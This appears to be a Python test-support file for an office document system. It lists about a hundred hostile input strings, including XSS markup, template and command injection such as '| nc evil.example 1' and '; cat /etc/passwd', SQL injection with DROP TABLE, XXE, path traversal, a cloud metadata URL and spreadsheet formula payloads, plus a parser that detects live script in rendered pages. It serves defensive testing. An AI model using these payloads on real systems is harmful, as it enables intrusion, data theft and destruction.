"""More than a hundred strings that broke some office system, by family, and how to read a page
for what they might have become there."""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onclick=alert(1) `",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<style>@import'//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<x onclick=alert(1)>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
)
LANGUAGES = (
    "{{7777*7}}",
    "{{7777|add:1}}{% load static %}{% debug %}",
    "{% include '/etc/passwd' %}",
    "${7777*7}",
    "#{7777*7}",
    "<%= 7777*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{0.__class__.__init__.__globals__}",
    "%(password)s %s %n %x",
    "$(reboot)",
    "`reboot`",
    "; cat /etc/passwd",
    "| nc evil.example 1",
    "() { :;}; echo x",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK('http://evil.example')",
    "+1+1",
    "-1+1",
    '{"$gt": ""}',
    "!!python/object/apply:os.system ['id']",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<?php system('id'); ?>",
)
QUERIES = (
    "'",
    '"',
    "';--",
    "'; DROP TABLE documents_document; --",
    "' OR '1'='1",
    "1 OR 1=1",
    "1; SELECT pg_sleep(9)",
    "' UNION SELECT password FROM organisation_person --",
    "\\'; SELECT 1; --",
    "%' AND 1=1 AND '%'='",
    "%",
    "_",
    "\\",
    "field__lookup=1",
    "title__startswith",
)
PLACES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "..;/admin",
    "/etc/passwd\x00.pdf",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "//evil.example/x",
    "\r\nSet-Cookie: a=b",
    "\r\nBcc: evil@example.com\r\n\r\nx",
    "CON",
    ".",
)
LETTERS = (
    "标题\x00后面",
    "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1b[31m\x7f",
    "\x80\x85\x9f\xa0\xad",
    "通知\u202egpj.exe",
    "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u2028\u2029",
    "\ufffe\uffff\ufdd0",
    "\ue000\U000f0000",
    "a" + "\u0300" * 500,
    "ก" + "็" * 300,
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳",
    "𠮷𠀀\U0003134a",
    "ﷺ" * 50,
    "İıßſǅ",
    "１２３４",
    "①②③Ⅳ",
    "\u1680\u2000\u3000",
    "　\t　",
    unicodedata.normalize("NFD", "é" * 20),
    "🀄" * 200,
    b"\xed\xa0\x80half",
    b"\xff\xfe\x00",
    b"\xc0\xafover",
)
NUMBERS = (
    "9" * 400,
    "-1",
    "0",
    "1e309",
    "NaN",
    "Infinity",
    "0x41",
    "1_000",
    "٣",
    "1" + "0" * 30,
    "true",
    "null",
    "None",
    "[]",
    "{}",
)
LENGTHS = ("长" * 100_000, "行\n" * 20_000, " " * 5_000, "a" * 201, "字" * 4_001, "，" * 3_000)
EVERY: tuple[str | bytes, ...] = (
    *(*MARKUP, *LANGUAGES, *QUERIES, *PLACES),
    *(*LETTERS, *NUMBERS, *LENGTHS),
)
# What an evaluated template would show; no page of ours shows these by itself.
EVALUATED = ("54439", "root:x:0", "__subclasses__()]")


class _Reader(HTMLParser):
    """Collects what a browser would run or fetch."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.alive: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            text = (value or "").lower().replace("\t", "").replace("\n", "")
            runs = name.startswith("on") or (name == "srcdoc")
            leads = name in ("href", "src", "action", "data", "formaction", "content")
            if runs and "alert" in text:
                self.alive.append(f"<{tag} {name}={value}>")
            if leads and ("javascript:" in text or "evil.example" in text):
                self.alive.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside and ("alert(1)" in data or "evil.example" in data):
            self.alive.append(f"<{self.inside}>{data[:60]}")


def alive(html: str) -> list[str]:
    """Return everything of ours in a page that a browser would run, or fetch from elsewhere."""
    reader = _Reader()
    reader.feed(html)
    return reader.alive
